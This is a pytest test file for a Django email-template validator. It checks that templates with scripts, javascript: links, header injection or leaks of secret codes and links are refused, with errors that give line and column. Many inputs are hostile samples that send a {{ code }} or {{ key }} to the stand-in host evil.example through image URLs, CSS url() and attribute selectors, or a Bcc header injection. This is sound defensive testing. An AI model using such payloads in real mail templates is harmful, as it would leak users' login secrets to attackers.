"""What keeps a template from being saved, told with its place."""

from __future__ import annotations

from dataclasses import replace
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings as django_settings
from django.utils import translation
from django.utils.safestring import mark_safe
from hypothesis import given, settings
from hypothesis import strategies as st

from mailcenter import kinds
from mailcenter.exceptions import TemplateFailed
from mailcenter.rendering import contracts
from mailcenter.templating import Case, Contract, Parts, Variable, wording
from mailcenter.templating.contract import missing, problems
from mailcenter.templating.engine import render

FOLDER = Path(django_settings.BASE_DIR) / "templates" / "mail"
SITE = "https://site.example"
LINK = Variable("link", "", f"{SITE}/confirm/SAMPLE/", required=True, secret=True)
CODE = Variable("code", "", "BCDF-GHJK", required=True, secret=True)
KEY = Variable("key", "", "SAMPLE", secret=True)
ORDER = Variable("order", "", {"number": 7, "lines": [{"name": "tea", "price": Decimal("1.5")}]})
SITE_URL = Variable("site_url", "", SITE)
NAME = Variable("name", "", "Ann")
VARIABLES = (LINK, CODE, KEY, ORDER, SITE_URL, NAME)
ALWAYS = {"order", "site_url", "name"}
CONTRACT = Contract(
    VARIABLES,
    (
        Case("link", "with a link", frozenset({"link", "key", *ALWAYS})),
        Case("code", "with a code", frozenset({"code", *ALWAYS})),
    ),
)
GOOD = Parts(
    subject="{% if code %}Your code{% else %}Your link{% endif %}\n",
    text="{% if code %}{{ code }}{% else %}Open:\n{{ link }}\n{% endif %}\n",
    html='<p>{% if code %}{{ code }}{% else %}<a href="{{ link }}">Open</a>{% endif %}</p>',
)
LAYOUT = Contract(
    (
        Variable("body", "", mark_safe("<p>x</p>"), required=True),
        Variable("preheader", "", "BCDF-GHJK"),
        Variable("subject", "", "S"),
        SITE_URL,
    ),
    (Case("sample", "sample", frozenset({"body", "preheader", "subject", "site_url"})),),
    whole_document=True,
)
GOOD_LAYOUT = Parts(
    subject="",
    text="{{ body }}\n",
    html="<!doctype html><html><head><title>{{ subject }}</title><style>p { color: red }</style>"
    "</head><body><div>{{ preheader }}</div>{{ body }}</body></html>",
)

# What mail programs make links of, before and after a code.
MADE_TO_LINKS = (
    ("https://evil.example/?(", ""),
    ("https://evil.example/?“", ""),
    ("(www.evil.example/", ""),
    ("evil.example/", ""),
    ("", ".evil.example"),
    ("", "@evil.example"),
    ("evil.example/{# a comment #}", ""),
    ('{{ "https://evil.example/" }}', ""),
    ('{% with a="https://evil.example/" %}{{ a }}', "{% endwith %}"),
    ("https://evil.example/{% if not name %} {% endif %}", ""),
)


def told(contract: Contract = CONTRACT, good: Parts = GOOD, **parts: str) -> list[str]:
    return [str(problem) for problem in problems(replace(good, **parts), contract, "en")]


def with_html(html: str) -> list[str]:
    return told(html=GOOD.html + html)


def with_text(text: str) -> list[str]:
    return told(text=GOOD.text + text)


def test_good_templates_have_no_problems():
    assert told() == []
    assert told(LAYOUT, GOOD_LAYOUT) == []


@pytest.mark.parametrize("language", ["en", "zh-hans"])
@pytest.mark.parametrize("kind", kinds.with_templates(), ids=lambda kind: kind.slug)
def test_the_built_in_mails_have_no_problems(kind, language):
    folder = FOLDER / kind.slug / language
    names = ("subject.txt", "body.txt", "body.html")
    parts = Parts(*((folder / name).read_text(encoding="utf-8") for name in names))
    assert [str(problem) for problem in problems(parts, kind.contract, language)] == []


@pytest.mark.parametrize("language", ["en", "zh-hans"])
def test_the_built_in_layout_has_no_problems(language):
    folder = FOLDER / "layout" / "en"
    parts = Parts("", *((folder / f"body.{end}").read_text("utf-8") for end in ("txt", "html")))
    found = problems(parts, contracts.of("layout"), language)
    assert [str(problem) for problem in found] == []


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("\n{% include 'x' %}", "line 5, column 1: The tag “include” is not allowed here. Allowed"),
        (" {{ name|safe }}", "line 4, column 2: The filter “safe” is not allowed here. Allowed"),
        ("{{ name", "line 4, column 1: “{{” is not closed: “}}” must follow on the same line"),
        ("{{ name\n}}", "“{{” is not closed"),
        ("{% if name", "“{%” is not closed"),
        ("{{ }}", "This tag is empty."),
        ("{% if name %}", "“if” is not closed: {% endif %} is missing."),
        ("{% endfor %}", "“endfor” has no “for” before it."),
        (
            "{% if name %}{% for a in order.lines %}{% endif %}",
            "“for” must be closed before “endif”",
        ),
        ("{% else %}", "“else” has its place once, within a “if” that is open."),
        ("{% if name == %}{% endif %}", "“if name ==” can't be read."),
        ("{{ name|date: }}", "“name|date:” can't be read."),
        ("{{ name|cut }}", "The filter “cut” is given too few or too many values."),
        ("{{ name.__class__ }}", "can't be read: a name doesn't begin with “_”."),
        ("{% for a %}{% endfor %}", "Write a loop as {% for entry in list %}"),
        ("{% with %}{% endwith %}", "Write it as {% with name=value %}"),
        ("{% templatetag x %}", "“templatetag” takes one of these words: openblock"),
        ("{{ nam }}", "There is no variable “nam”. Did you mean “name”?"),
        ("{{ settings.SECRET_KEY }}", "There is no variable “settings” here. There are: code, key"),
        ("{{ order.numbr }}", "There is no variable “order.numbr”. Did you mean “order.number”?"),
        ("{{ name.upper }}", "There is no variable “name.upper” here."),
        ("{% for a in order.lines %}{{ a.title }}{% endfor %}", "no variable “a.title” here"),
        ("{% for a in order.lines %}{% endfor %}{{ a }}", "There is no variable “a” here"),
        ("{{ forloop.counter }}", "There is no variable “forloop” here"),
        ("{% for a in name %}{% endfor %}", "“name” is not a list to go through."),
        ("{% with name=1 %}{% endwith %}", "“name” is a variable already: choose another name."),
        ("{% with _a=1 %}{% endwith %}", "“_a” can't be a name."),
        ("{{ order }}", "text, line 4, column 1: “order” has several values in it"),
        (
            "\n {{ name|divisibleby:0 }}{{ name }}",
            "text, line 5, column 2: It can't be rendered with these values (ValueError).",
        ),
        ("{% if name|divisibleby:2 %}{% endif %}", "text, line 4, column 1: It can't be rendered"),
        ("\x00", "An invisible control character (U+0000) stands here."),
        ("x" * 65536, "It is longer than 64 KiB."),
        ("{{ name }}" * 1001, "It has more than 1000 tags."),
        ("{% if name %}" * 30 + "{% endif %}" * 30, "More than 20 tags stand inside one another."),
        ("{{ name|floatformat:1000000 }}", "at most 20 decimals"),
        (
            "{{ code|lower }}",
            "“code” is or holds a secret: write it as {{ code }}",
        ),
        ("{% if code == 'X' %}{% endif %}", "“code” is or holds a secret"),
        ("{% with a=code %}{% endwith %}", "“code” is or holds a secret"),
        ("{{ name|default:code }}", "“code” is or holds a secret"),
        (
            " https://evil.example/?{{ key }}",
            "text, line 4, column 24: “key” is or holds a secret: it may stand in",
        ),
        (
            "{% if name == 'Bob' %}www.evil.example/{{ code }}{% endif %}",
            "“code” is or holds a secret",
        ),
        (" {{ key }}", "“key” stands in the other part and not here: both must say the same."),
        *[(f"{start}{{{{ code }}}}{end}", "“code” is or holds") for start, end in MADE_TO_LINKS],
    ],
)
def test_what_is_wrong_is_said_with_its_place(text, expected):
    assert any(expected in problem for problem in with_text(text)), with_text(text)


def test_all_mistakes_are_told_at_once_and_none_twice():
    found = with_text("{{ nam }}{% load x %}{{ code|lower }}")
    assert len(found) == 3
    assert told(subject="{{ nam }}", text="{{ nam }}", html="{{ nam }}")[0].startswith("subject, ")
    assert len(told(subject="{{ nam }}", text="{{ nam }}", html="{{ nam }}")) == 3
    assert len(with_text("{% x %}" * 900)) == 20
    assert len(with_html("<script>" * 900)) == 20


@pytest.mark.parametrize(
    ("subject", "expected"),
    [
        ("a\r\nBcc: x@example.com", "subject, line 1, column 2: A subject is one line."),
        ("a\nb", "subject, line 1, column 2: A subject is one line."),
        ("a\u2028b", "A subject is one line."),
        (" \n", "subject: The subject is empty."),
        ("{% if code %}a{% endif %}", "In the case “with a link”: The subject is empty."),
        ("x" * 201, "subject: The subject is longer than 200 characters."),
    ],
)
def test_a_subject_is_one_short_line(subject, expected):
    assert len(found := told(subject=subject)) == 1
    assert expected in found[0]


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("\n<script>x</script>", "HTML, line 2, column 1: “<script>” is not allowed in a mail."),
        ("<iframe></iframe>", "“<iframe>” is not allowed"),
        ("<form></form>", "“<form>” is not allowed"),
        ("<base href='https://evil.example'>", "“<base>” is not allowed"),
        ("<svg onload='x'>", "“<svg>” is not allowed"),
        ("<style>p {}</style>", "“<style>” has its place in the layout alone."),
        ("<meta charset=utf-8>", "“<meta>” has its place in the layout alone."),
        ("<p onclick='x'>", "“onclick” would run a script"),
        ("<p style='behavior:url(x)'>", "“behavior:” is not allowed in style rules."),
        ("<a href='javascript:x'>", "must begin with https://"),
        ("<a href=' JaVa\tscript:x'>", "must begin with https://"),
        ("<a href='&#106;avascript:x'>", "must begin with https://"),
        ("<img src='data:image/png;base64,x'>", "must begin with https://"),
        ("<a href='/accounts/'>", "“/accounts/” in “href” must begin with https://"),
        ("<a href=''>", "The address in “href” is empty."),
        (
            "<a href='{{ link }}'>x</a>",
            "In the case “with a code”: The address in “href” is empty.",
        ),
        ("<a href='{{ name }}'>x</a>", "The address “Ann” in “href” must begin with"),
        ("<a href='{% if name %}java{% endif %}script:x'>", "must begin with https://"),
        ("<a href='java{# #}script:x'>", "must begin with https://"),
        ("{% with a='javascript:x' %}<a href='{{ a }}'>x</a>{% endwith %}", "must begin with"),
        ("<scr{# #}ipt>", "may stand only between the quotes of a value."),
        ("<{% if name %}script{% endif %}>", "may stand only between the quotes of a value."),
        ("<a href='&#xE000;javascript:x'>{{ name }}</a>", "must begin with https://"),
        ("<p {{ name }}>", "may stand only between the quotes of a value."),
        ("<p title={{ name }}>", "may stand only between the quotes of a value."),
        ("<p {% if name %}title='x'{% endif %}>", "may stand only between the quotes of a value."),
        ("<p title='{% if name %}' lang='{% endif %}'>", "“title” must end there too."),
        ("<p", "“<” begins nothing that can be read."),
        ("a < b", "“<” begins nothing that can be read."),
        ("<!-- x", "“<” begins nothing that can be read."),
        ("<!--><script>x</script>-->", "“<” begins nothing that can be read."),
        ("<p title='a' title='b'>", "“<” begins nothing that can be read."),
        ("<a href='https://evil.example/?{{ link }}'>x</a>", "“link” is or holds a secret"),
        ("<a href='{{ site_url }}.evil.example/{{ key }}'>x</a>", "“key” is or holds a secret"),
        ("<img src='{{ site_url }}/{{ key }}'>", "“key” is or holds a secret"),
        (
            "<p style='background:url(https://evil.example/{{ key }})'>",
            "“key” is or holds a secret",
        ),
        ("<p title='{{ key }}'>", "“key” is or holds a secret"),
        ("<!-- {{ key }} -->", "“key” is or holds a secret"),
        ("<!-- {% if name %} -->{% endif %}", "Template tags are not read in style rules"),
        (
            "{% if name == 'Bob' %}<img src='https://evil.example/{{ code }}'>{% endif %}",
            "“code” is or holds a secret",
        ),
        (
            "<a href='https://evil.example/'>https://site.example/</a>",
            "A link shows “https://site.example/” and leads to “https://evil.example/”",
        ),
        ("<a ping='https://evil.example/'>", "“ping” would tell a stranger of each click"),
        *[(f"{start}{{{{ code }}}}{end}", "“code” is or holds") for start, end in MADE_TO_LINKS],
        ("evil.example/<b>{{ code }}</b>", "“code” is or holds a secret"),
        ("evil.example/<wbr>{{ code }}", "“code” is or holds a secret"),
        ("https&#58;//evil.example/{{ code }}", "“code” is or holds a secret"),
        (" {{ key }}", "“key” stands in the other part and not here"),
    ],
)
def test_html_is_text_tables_pictures_and_honest_links(html, expected):
    assert any(expected in problem for problem in with_html(html)), with_html(html)


@pytest.mark.parametrize(
    "html",
    [
        "<p title='{% if name %}a{% else %}b{% endif %}'>x</p>",
        "<img src='cid:logo' alt=''><a href='mailto:a@site.example'>a</a><a href='#top'>x</a>",
        "<a href='https://site.example/'>site.example</a><a href='{{ site_url }}/help'>x</a>",
        "{% for a in order.lines %}<td>{{ a.name }}</td>{% endfor %}{# <script> #}",
        "{% comment %}<script>{{ whatever }}{% endcomment %}",
        "<!--[if mso]><table><![endif]--> &lt; &copy; <br/><hr />",
        '<td width=10 align="left" nowrap>x</td>',
    ],
)
def test_what_mails_need_is_allowed(html):
    assert with_html(html) == []


def test_a_key_may_be_put_into_a_link_to_the_site():
    link = "{{ site_url }}/other/{{ key }}"
    assert (
        told(
            text=GOOD.text.replace("{{ link }}", "{{ link }}\n" + link),
            html=GOOD.html.replace("Open", f"Open</a> <a href='{link}'>Other"),
        )
        == []
    )


@pytest.mark.parametrize("part", ["text", "html"])
def test_a_part_without_the_code_or_link_is_refused(part):
    source = getattr(GOOD, part)
    (problem,) = told(**{part: source.replace("{{ code }}", "code")})
    assert problem.endswith(
        "In the case “with a code”: “{{ code }}” is missing: this part must show it."
    )
    found = told(**{part: source.replace("{{ link }}", f"{SITE}/")})
    assert any("In the case “with a link”: “{{ link }}” is missing" in each for each in found)


def test_a_code_in_a_place_that_nobody_sees_is_missing():
    contract = Contract((replace(CODE, secret=False),), (Case("c", "c", frozenset({"code"})),))
    parts = {"subject": "x", "text": "{{ code }}"}
    for html in ("<p title='{{ code }}'>x</p>", "x<!-- {{ code }} -->"):
        (problem,) = told(contract, html=html, **parts)
        assert problem == "HTML: “{{ code }}” is missing: this part must show it."


def test_a_link_must_be_one_in_both_parts():
    found = told(text=GOOD.text.replace("{{ link }}", "见{{ link }}。"))
    assert any("put a space or a line break on both sides" in problem for problem in found)
    found = told(html=GOOD.html.replace('<a href="{{ link }}">Open</a>', "{{ link }}"))
    assert any('write <a href="{{ link }}">…</a>' in problem for problem in found)


def test_a_link_without_words_or_picture_shows_nothing():
    empty, pictured = (
        GOOD.html.replace("Open", words) for words in (" ", "<img src='cid:logo' alt=''>")
    )
    assert any("“{{ link }}” is missing" in problem for problem in told(html=empty))
    assert told(html=f"<p>x</p>{pictured}") == []


def test_one_sample_within_another_proves_nothing():
    # "SAMPLE" stands in the link, but the key doesn't.
    assert "SAMPLE" in LINK.sample
    contract = replace(CONTRACT, variables=(LINK, CODE, replace(KEY, required=True), ORDER))
    assert sum("“{{ key }}” is missing" in problem for problem in told(contract)) == 2


def test_a_required_number_must_be_written_somewhere():
    total = Variable("total", "", Decimal("9.5"), required=True)
    contract = Contract((total,), (Case("c", "c", frozenset({"total"})),))
    parts = {"subject": "x", "html": "<p>{{ total|floatformat:2 }}</p>"}
    assert told(contract, text="{{ total }}", **parts) == []
    assert told(contract, text="x", **parts) == [
        "text: “{{ total }}” is missing: this part must show it."
    ]


def test_what_is_wrong_in_every_case_is_said_once():
    assert told(text="x", html="<p>x</p>", subject=" ").count("subject: The subject is empty.") == 1
    assert "text: The text is empty." in told(text=" ")
    assert "HTML: The HTML shows nothing." in told(html="<p> </p>")


@pytest.mark.parametrize(
    ("part", "source", "expected"),
    [
        ("text", "x", "text: “{{ body }}” is missing"),
        ("html", "<p>{{ subject }}</p>", "HTML: “{{ body }}” is missing"),
        (
            "html",
            "<body>{{ body }}<img src='https://evil.example/{{ body }}'>",
            "“body” is or holds",
        ),
        (
            "html",
            "{{ body }}<img src='https://evil.example/{{ preheader }}'>",
            "“preheader” is or holds",
        ),
        ("html", "{{ body|upper }}", "“body” is or holds a secret"),
        ("html", "{{ body }}<script></script>", "“<script>” is not allowed in a mail."),
        ("html", "{{ body }}<meta http-equiv=refresh content=0>", "“<meta http-equiv>” is not"),
        ("html", "<style>p{}{{ body }}</style>", "“body” is or holds a secret"),
        (
            "html",
            "<style>@import 'x'</style>{{ body }}",
            "“@import” is not allowed in style rules.",
        ),
        # css-inline would write the picture to each link that holds these letters.
        (
            "html",
            "<style>a[href*='0a']{background:url(https://evil.example/0a)}</style>{{ body }}",
            "“href” is not allowed in style rules.",
        ),
        ("html", r"<style>a[h\72 ef*='0a']{}</style>{{ body }}", "“href” is not allowed"),
        ("html", r"<style>@\69mport 'x'</style>{{ body }}", "“@import” is not allowed"),
        (
            "html",
            "<style>@font-face{src:url(https://x.example);unicode-range:U+42}</style>{{ body }}",
            "“unicode-range” is not allowed in style rules.",
        ),
        (
            "html",
            "{{ body }}<img src='https://evil.example/{{ subject }}'>",
            "“subject” is or holds",
        ),
    ],
)
def test_a_layout_shows_the_whole_mail_and_sends_it_nowhere(part, source, expected):
    found = told(LAYOUT, GOOD_LAYOUT, **{part: source})
    assert any(expected in problem for problem in found), found


def test_sentences_are_in_the_reader_s_language_whatever_the_mail_s(monkeypatch):
    def named(msgid: str) -> str:
        return f"{translation.get_language()}: {msgid}"

    monkeypatch.setattr(wording, "gettext", named)
    bad = (
        replace(GOOD, subject=" "),
        replace(GOOD, text="{{ nam }}"),
        replace(GOOD, text=GOOD.text + "{{ name|divisibleby:0 }}"),
    )
    for parts in bad:
        for problem in problems(parts, CONTRACT, "zh-hans"):
            assert problem.sentence.startswith("en: ")


def test_a_rendered_mail_that_hides_its_code_is_noticed():
    values = {"code": "A&B", "link": "", "name": "Ann"}
    shown = Parts("s", "A&B", "<p>A&amp;B</p>")
    assert missing(shown, values, CONTRACT) == []
    assert missing(shown, {**values, "code": " A&B "}, CONTRACT) == []
    assert missing(replace(shown, text="x", html="A&amp;B"), values, CONTRACT) == ["code"]
    assert missing(Parts("s", "a\r\nb", "a\nb"), {"code": "a\r\nb"}, CONTRACT) == []
    assert missing(replace(shown, html="x"), values, CONTRACT) == ["code"]
    assert missing(replace(shown, html="x"), {"code": None}, CONTRACT) == []


PIECES = st.sampled_from(
    [
        *("<", ">", "</", "<a ", "href=", '"', "'", "<!--", "-->", "<style>", "</style>", "&", "="),
        *(
            "{{ code }}",
            "{{ link }}",
            "{{ key }}",
            "{{ name }}",
            "{{ site_url }}/",
            "{% if code %}",
        ),
        *(
            "{% else %}",
            "{% endif %}",
            "{% for a in order.lines %}",
            "{% endfor %}",
            "{{ a.name }}",
        ),
        *("{{", "}}", "{%", "%}", "{#", "#}", "\n", " ", "https://", "javascript:", "<p>", "x"),
        *(
            "{% comment %}",
            "{% endcomment %}",
            "{% with b=name %}",
            "{% endwith %}",
            "\ue000",
            "&#xE000;",
        ),
    ]
)
SOURCES = st.one_of(st.text(), st.lists(PIECES, max_size=20).map("".join))


@settings(deadline=None, derandomize=True)
@given(subject=st.one_of(st.just(GOOD.subject), SOURCES), text=SOURCES, html=SOURCES)
def test_any_source_has_problems_or_renders_in_each_case(subject, text, html):
    parts = Parts(subject, GOOD.text + text, GOOD.html + html)
    found = problems(parts, CONTRACT, "en")
    assert all(str(problem) for problem in found)
    if not found:
        for case in CONTRACT.cases:
            values = CONTRACT.samples(case)
            for source in (parts.subject, parts.text, parts.html):
                try:
                    assert render(source, values, html=source is parts.html).strip()
                except TemplateFailed as failed:
                    pytest.fail(str(failed))
